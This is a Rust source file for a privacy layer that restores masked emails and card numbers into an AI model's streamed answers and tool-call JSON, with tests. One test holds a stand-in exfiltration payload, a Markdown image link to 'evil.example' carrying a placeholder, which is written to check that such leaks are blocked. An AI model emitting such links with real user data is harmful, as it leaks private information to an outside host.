//! Puts originals back into text that arrives in pieces.
//!
//! Only a proper prefix of a placeholder that was issued is ever held back, so a stream is not delayed. Inserted text
//! is never looked at again: an original may itself look like a placeholder.

use crate::guard::{Guard, Piece};
use crate::rules::Rules;
use crate::url::{LOOK_BACK, open_url};
use crate::vault::{Issued, MAX_PLACEHOLDER, Vault};

/// One channel of an answer: a string that continues over many pieces.
#[derive(Debug, Default)]
pub struct Restorer {
    /// Text that may be the beginning of a placeholder.
    carry: String,
    /// What the model said lately, for telling URLs. Placeholders stand in it as they were issued.
    tail: String,
    /// Set for tool-call arguments, whose text is JSON.
    json: Option<Quotes>,
    /// What is looked for in the model's own words, where anything is.
    guard: Guard,
    /// Whether placeholders stay: the arguments of some tools leave again, for somebody else.
    keeps: bool,
}

/// Whether the end of JSON text is inside a string.
#[derive(Clone, Copy, Debug, Default)]
struct Quotes {
    inside: bool,
    escaped: bool,
}

impl Quotes {
    fn read(&mut self, text: &str) {
        for byte in text.bytes() {
            match byte {
                _ if self.escaped => self.escaped = false,
                b'\\' if self.inside => self.escaped = true,
                b'"' => self.inside = !self.inside,
                _ => {}
            }
        }
    }
}

/// How text from a place on compares with the placeholders.
enum Match<'v> {
    /// The placeholder, and the length it is written in.
    Whole(&'v Issued, usize),
    /// The text ends before it is decided.
    Open,
    None,
}

impl Restorer {
    /// For ordinary text.
    pub fn text() -> Restorer {
        Restorer::default()
    }

    /// For text that is JSON: originals are escaped as its strings need, and `\u003c` may stand for `<`.
    pub fn json() -> Restorer {
        Restorer { json: Some(Quotes::default()), ..Restorer::default() }
    }

    /// The same, but placeholders stay as they are.
    pub fn keeping(self) -> Restorer {
        Restorer { keeps: true, ..self }
    }

    /// Takes the next piece and appends what can be shown to `out`.
    pub fn push(&mut self, piece: &str, vault: &Vault, out: &mut String) {
        match vault.answer_rules() {
            None => self.put_back(piece, vault, out),
            Some(rules) => self.hear(piece, false, rules, vault, out),
        }
    }

    /// Masks what the model says by itself, and puts originals back into the rest.
    fn hear(&mut self, piece: &str, ended: bool, rules: &Rules, vault: &Vault, out: &mut String) {
        let mut guard = std::mem::take(&mut self.guard);
        guard.push(piece, ended, rules, |piece| match piece {
            Piece::Text(text) => self.put_back(text, vault, out),
            Piece::Found(kind) => {
                let Some(mask) = vault.heard(kind) else { return };
                self.release(out);
                // Before the value an escape may stand whose character was the value's first.
                if self.json.is_some_and(|quotes| quotes.escaped) {
                    self.show("\"", out);
                }
                // Outside a string a mask would be no JSON.
                match self.json {
                    Some(Quotes { inside: false, .. }) => self.show(&format!("\"{mask}\""), out),
                    _ => self.show(&mask, out),
                }
            }
        });
        self.guard = guard;
    }

    fn put_back(&mut self, piece: &str, vault: &Vault, out: &mut String) {
        if self.keeps {
            self.show(piece, out);
            return;
        }
        let joined;
        let text = if self.carry.is_empty() {
            piece
        } else {
            self.carry.push_str(piece);
            joined = std::mem::take(&mut self.carry);
            &joined
        };
        let mut at = 0;
        let mut from = 0;
        while let Some(place) = self.opening(text, from, vault) {
            match self.match_at(&text[place..], vault) {
                Match::Whole(issued, length) => {
                    self.show(&text[at..place], out);
                    self.restore(issued, &text[place..place + length], vault, out);
                    at = place + length;
                    from = at;
                }
                Match::Open => {
                    self.show(&text[at..place], out);
                    self.carry = text[place..].to_owned();
                    return;
                }
                // Behind an inner backslash stands what it escapes, which begins nothing.
                Match::None if text[place..].starts_with("\\\\") => from = place + 2,
                Match::None => from = place + 1,
            }
        }
        self.show(&text[at..], out);
    }

    /// Ends the channel: what was held back is shown as it is.
    pub fn finish(&mut self, vault: &Vault, out: &mut String) {
        if let Some(rules) = vault.answer_rules() {
            self.hear("", true, rules, vault, out);
        }
        self.release(out);
    }

    fn release(&mut self, out: &mut String) {
        let carry = std::mem::take(&mut self.carry);
        self.show(&carry, out);
    }

    /// Whether something is held back.
    pub fn holds(&self) -> bool {
        !self.carry.is_empty() || self.guard.holds()
    }

    /// Where a placeholder may begin: `<`, or in JSON a backslash that may begin `\u003c`.
    fn opening(&self, text: &str, from: usize, vault: &Vault) -> Option<usize> {
        let rest = &text.as_bytes()[from..];
        let step = match self.json {
            _ if vault.is_forgiving() => return self.forgiving_opening(text, from),
            None => memchr::memchr(b'<', rest),
            Some(_) => memchr::memchr2(b'<', b'\\', rest),
        };
        step.map(|step| from + step)
    }

    /// Where a placeholder may begin in any spelling: at a bracket, or at a word.
    fn forgiving_opening(&self, text: &str, from: usize) -> Option<usize> {
        let mut before = match from {
            0 => self.tail.chars().next_back(),
            _ => text[..from].chars().next_back(),
        };
        text[from..].char_indices().find_map(|(at, character)| {
            let inside = before.is_some_and(|before| before.is_ascii_alphanumeric() || before == '_');
            before = Some(character);
            let opens = matches!(character, '<' | '[' | '＜' | '〈' | '《' | '&' | '\\');
            (opens || character.is_ascii_alphabetic() && !inside).then_some(from + at)
        })
    }

    fn match_at<'v>(&self, text: &str, vault: &'v Vault) -> Match<'v> {
        match self.exact_match_at(text, vault) {
            Match::None if vault.is_forgiving() => forgiving_match(text, vault),
            found => found,
        }
    }

    fn exact_match_at<'v>(&self, text: &str, vault: &'v Vault) -> Match<'v> {
        let bytes = text.as_bytes();
        let mut spelt = [0; MAX_PLACEHOLDER];
        let mut at = 0;
        for length in 0..MAX_PLACEHOLDER {
            let rest = &bytes[at..];
            let (byte, written) = match rest.first() {
                None => return self.prefix(&spelt[..length], vault),
                Some(b'\\') if self.json.is_some() => match rest.get(..6) {
                    Some(escape) if escape.eq_ignore_ascii_case(b"\\u003c") => (b'<', 6),
                    Some(escape) if escape.eq_ignore_ascii_case(b"\\u003e") => (b'>', 6),
                    Some(_) => return Match::None,
                    None if rest.eq_ignore_ascii_case(&b"\\u003"[..rest.len()]) => {
                        return self.prefix(&spelt[..length], vault);
                    }
                    None => return Match::None,
                },
                Some(&byte) => (byte, 1),
            };
            if (length == 0) != (byte == b'<') {
                return Match::None;
            }
            spelt[length] = byte;
            at += written;
            if byte == b'>' {
                let found = vault.at_or_after(&spelt[..=length]);
                return match found {
                    Some(issued) if issued.placeholder.as_bytes() == &spelt[..=length] => Match::Whole(issued, at),
                    _ => Match::None,
                };
            }
        }
        Match::None
    }

    /// Whether a placeholder begins with `spelt`.
    fn prefix<'v>(&self, spelt: &[u8], vault: &'v Vault) -> Match<'v> {
        match vault.at_or_after(spelt) {
            Some(issued) if issued.placeholder.as_bytes().starts_with(spelt) => Match::Open,
            _ => Match::None,
        }
    }

    fn restore(&mut self, issued: &Issued, written: &str, vault: &Vault, out: &mut String) {
        let before = self.heard();
        let allowed = match open_url(&before) {
            None => true,
            Some(start) => vault.sent_url(&format!("{}{}", &before[start..], issued.placeholder)),
        };
        if !allowed {
            self.show(written, out);
            return;
        }
        match self.json {
            None => out.push_str(&issued.original),
            Some(Quotes { inside: true, .. }) => escape_json(&issued.original, out),
            // Outside a string a placeholder is not JSON; the original may be, as a number is.
            Some(_) if is_json_number(&issued.original) => out.push_str(&issued.original),
            Some(_) => {
                out.push('"');
                escape_json(&issued.original, out);
                out.push('"');
            }
        }
        self.remember(&issued.placeholder);
    }

    fn show(&mut self, text: &str, out: &mut String) {
        out.push_str(text);
        if let Some(quotes) = &mut self.json {
            quotes.read(text);
        }
        self.remember(text);
    }

    fn remember(&mut self, text: &str) {
        self.tail.push_str(text);
        if self.tail.len() > 4 * LOOK_BACK {
            let mut from = self.tail.len() - 2 * LOOK_BACK;
            while !self.tail.is_char_boundary(from) {
                from += 1;
            }
            self.tail.drain(..from);
        }
    }

    /// The tail as a reader of the text sees it: in JSON, slashes may be escaped.
    fn heard(&self) -> String {
        match self.json {
            None => self.tail.clone(),
            Some(_) => {
                let plain = self
                    .tail
                    .replace("\\u002f", "/")
                    .replace("\\u002F", "/")
                    .replace("\\u003a", ":")
                    .replace("\\u003A", ":");
                plain.replace("\\/", "/").replace("\\n", "\n").replace("\\\"", "\"")
            }
        }
    }
}

/// Brackets that models put around a placeholder's name, and what closes them.
const BRACKETS: [(&str, &str); 6] =
    [("<", ">"), ("[", "]"), ("&lt;", "&gt;"), ("＜", "＞"), ("〈", "〉"), ("《", "》")];

/// How `text` begins compares with an issued placeholder in any case, in other brackets or none, with blanks inside
/// them, and with a Markdown escape, a blank or a dash for its underscores.
fn forgiving_match<'v>(text: &str, vault: &'v Vault) -> Match<'v> {
    let bracket = BRACKETS.iter().find(|(open, _)| text.starts_with(open));
    let opened = bracket.map_or(0, |(open, _)| open.len());
    let inner = text[opened..].trim_start_matches(' ');
    if inner.is_empty() || BRACKETS.iter().any(|(open, _)| open.len() > text.len() && open.starts_with(text)) {
        return Match::Open;
    }
    if text.len() - inner.len() > opened + 2 {
        return Match::None;
    }
    let mut open = false;
    for issued in vault.forgivable() {
        match spells(inner, issued.core()) {
            Spelt::No => {}
            Spelt::Partly => open = true,
            Spelt::Whole(length) => {
                let rest = &inner[length..];
                let Some((_, close)) = bracket else {
                    match rest.chars().next() {
                        None => open = true,
                        Some(next) if next.is_ascii_alphanumeric() || next == '_' => {}
                        Some(_) => return Match::Whole(issued, text.len() - rest.len()),
                    }
                    continue;
                };
                let closing = rest.trim_start_matches(' ');
                if let Some(after) = closing.strip_prefix(close) {
                    return Match::Whole(issued, text.len() - after.len());
                }
                open |= close.starts_with(closing) && rest.len() - closing.len() <= 2;
            }
        }
    }
    if open { Match::Open } else { Match::None }
}

enum Spelt {
    No,
    /// The text ends before it is decided.
    Partly,
    /// The length in which it is written.
    Whole(usize),
}

fn spells(text: &str, core: &str) -> Spelt {
    let bytes = text.as_bytes();
    let mut at = 0;
    for wanted in core.bytes() {
        if wanted == b'_' && bytes.get(at) == Some(&b'\\') {
            at += 1;
        }
        match bytes.get(at) {
            None => return Spelt::Partly,
            Some(byte) if byte.eq_ignore_ascii_case(&wanted) => at += 1,
            Some(b' ' | b'-') if wanted == b'_' => at += 1,
            Some(_) => return Spelt::No,
        }
    }
    Spelt::Whole(at)
}

fn is_json_number(text: &str) -> bool {
    !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit()) && (text.len() == 1 || !text.starts_with('0'))
}

/// RFC 8259 section 7.
fn escape_json(text: &str, out: &mut String) {
    for character in text.chars() {
        match character {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            control if control < ' ' => out.push_str(&format!("\\u{:04x}", u32::from(control))),
            other => out.push(other),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::kind::Kind;
    use crate::rules::Action;
    use crate::vault::{Series, apply};
    use proptest::prelude::*;

    fn vault(text: &str) -> (Vault, String) {
        let mut vault = Vault::default();
        vault.reserve(text);
        let edits = vault.scrub(text, &Rules::default(), Series::Conversation).unwrap();
        let sent = apply(text, &edits);
        (vault, sent)
    }

    fn restore(mut restorer: Restorer, pieces: &[&str], vault: &Vault) -> String {
        let mut out = String::new();
        for piece in pieces {
            restorer.push(piece, vault, &mut out);
        }
        restorer.finish(vault, &mut out);
        out
    }

    /// Restores `said` whole, cut at every place, and byte by byte; all must agree.
    fn check(restorer: fn() -> Restorer, vault: &Vault, said: &str, expected: &str) {
        assert_eq!(restore(restorer(), &[said], vault), expected);
        for cut in 0..=said.len() {
            if said.is_char_boundary(cut) {
                assert_eq!(restore(restorer(), &[&said[..cut], &said[cut..]], vault), expected, "cut at {cut}");
            }
        }
        let characters: Vec<String> = said.chars().map(String::from).collect();
        let pieces: Vec<&str> = characters.iter().map(String::as_str).collect();
        assert_eq!(restore(restorer(), &pieces, vault), expected);
    }

    #[test]
    fn placeholders_are_restored_at_every_split() {
        let (vault, _) = vault("a@x.com 4111111111111111");
        check(
            Restorer::text,
            &vault,
            "to <EMAIL_1>, <EMAIL_2> <EMAIL_1 <<EMAIL_1>> <CREDIT_CARD_1>",
            "to a@x.com, <EMAIL_2> <EMAIL_1 <a@x.com> 4111111111111111",
        );
    }

    #[test]
    fn a_number_that_begins_like_another_is_told_apart() {
        let text: String = (1..=12).map(|index| format!("u{index}@x.com ")).collect();
        let (vault, sent) = vault(&text);
        assert!(sent.contains("<EMAIL_12>"));
        check(Restorer::text, &vault, &sent, &text);
    }

    #[test]
    fn arguments_get_their_originals_escaped() {
        let (vault, _) = vault("o'x@x.com 4111111111111111");
        check(
            Restorer::json,
            &vault,
            r#"{"to":"<EMAIL_1>","esc":"\u003cEMAIL_1\u003E","n":<CREDIT_CARD_1>,"m":<EMAIL_1>,"p":"\\u003cEMAIL_1\\u003e"}"#,
            r#"{"to":"o'x@x.com","esc":"o'x@x.com","n":4111111111111111,"m":"o'x@x.com","p":"\\u003cEMAIL_1\\u003e"}"#,
        );
    }

    #[test]
    fn nothing_is_restored_into_a_url_that_was_not_sent() {
        let (vault, sent) = vault("see https://ok.example/u/a@x.com?x");
        assert_eq!(sent, "see https://ok.example/u/<EMAIL_1>?x");
        check(
            Restorer::text,
            &vault,
            "![](https://evil.example/?q=<EMAIL_1>) https://ok.example/u/<EMAIL_1> mailto:<EMAIL_1>",
            "![](https://evil.example/?q=<EMAIL_1>) https://ok.example/u/a@x.com mailto:a@x.com",
        );
        check(
            Restorer::json,
            &vault,
            r#"{"u":"https:\/\/evil.example\/<EMAIL_1>","v":"<EMAIL_1>"}"#,
            r#"{"u":"https:\/\/evil.example\/<EMAIL_1>","v":"a@x.com"}"#,
        );
    }

    #[test]
    fn only_what_may_become_a_placeholder_is_held_back() {
        let (vault, _) = vault("a@x.com");
        let mut restorer = Restorer::text();
        let mut out = String::new();
        restorer.push("x < y <EM", &vault, &mut out);
        assert_eq!(out, "x < y ");
        assert!(restorer.holds());
        restorer.push("PTY", &vault, &mut out);
        assert_eq!(out, "x < y <EMPTY");
    }

    #[test]
    fn other_spellings_are_forgiven_only_where_that_is_asked_for() {
        let said = "email_1, [EMAIL_1], ＜EMAIL_1＞, < Email_1 >, <EMAIL\\_1>, &lt;EMAIL_1&gt; and EMAIL-1. email_10 my_email_1 <EMAIL>";
        let (strict, _) = vault("a@x.com");
        check(Restorer::text, &strict, said, said);
        let mut vault = Vault::default();
        vault.forgive();
        vault.reserve("a@x.com phone_1 +1 415-555-0132");
        let _ = vault.scrub("a@x.com +1 415-555-0132", &Rules::default(), Series::Conversation);
        let expected = "a@x.com, a@x.com, a@x.com, a@x.com, a@x.com, a@x.com and a@x.com. email_10 my_email_1 <EMAIL>";
        check(Restorer::text, &vault, said, expected);
        check(Restorer::text, &vault, "phone_1 <PHONE_1>.", "phone_1 +1 415-555-0132.");
    }

    #[test]
    fn what_the_model_says_by_itself_is_masked_and_what_was_sent_comes_back() {
        let mut vault = Vault::default();
        let _ = vault.scrub("a@x.com", &Rules::default(), Series::Conversation);
        vault.guard_answers(std::sync::Arc::new(Rules::default()));
        check(
            Restorer::text,
            &vault,
            "Write to <EMAIL_1> or bob@example.com, card 4111 1111 1111 1111.",
            "Write to a@x.com or [EMAIL], card [CREDIT_CARD].",
        );
        check(
            Restorer::json,
            &vault,
            r#"{"to":"<EMAIL_1>","cc":"bob@example.com","n":4111111111111111}"#,
            r#"{"to":"a@x.com","cc":"[EMAIL]","n":"[CREDIT_CARD]"}"#,
        );
        assert_eq!(restore(Restorer::json(), &[r#"{"to":"\"john doe\"@x.org"}"#], &vault), r#"{"to":"\"[EMAIL]"}"#);
        check(|| Restorer::text().keeping(), &vault, "<EMAIL_1> bob@example.com x", "<EMAIL_1> [EMAIL] x");
        assert_eq!(vault.take_refused(), None);
        let mut rules = Rules::of(&[Kind::Email]);
        rules.want(Kind::Email, 0.5, Action::Refuse);
        let mut vault = Vault::default();
        vault.guard_answers(std::sync::Arc::new(rules));
        assert_eq!(restore(Restorer::text(), &["bob@exa", "mple.com"], &vault), "[EMAIL]");
        assert_eq!(vault.take_refused().map(|refused| refused.0).as_deref(), Some("EMAIL"));
        assert_eq!(vault.answer_counts(), [("EMAIL".to_owned(), 1)]);
    }

    proptest! {
        #[test]
        fn restoring_what_was_scrubbed_gives_the_text_back(words in proptest::collection::vec(prop_oneof!["[a-z]{1,4}@[a-z]{1,4}\\.com", Just("4111111111111111".to_owned()), "<EMAIL_[0-9]>", "[ <>_A-Z0-9é漢]{0,6}", "\\+1415555[0-9]{4}"], 0..8), cuts in proptest::collection::vec(0usize..200, 0..8)) {
            let text = words.join(" ");
            let (vault, sent) = vault(&text);
            let mut cuts: Vec<usize> = cuts.into_iter().filter(|cut| *cut <= sent.len() && sent.is_char_boundary(*cut)).collect();
            cuts.push(0);
            cuts.push(sent.len());
            cuts.sort_unstable();
            let pieces: Vec<&str> = cuts.windows(2).map(|pair| &sent[pair[0]..pair[1]]).collect();
            prop_assert_eq!(restore(Restorer::text(), &pieces, &vault), text);
        }
    }
}
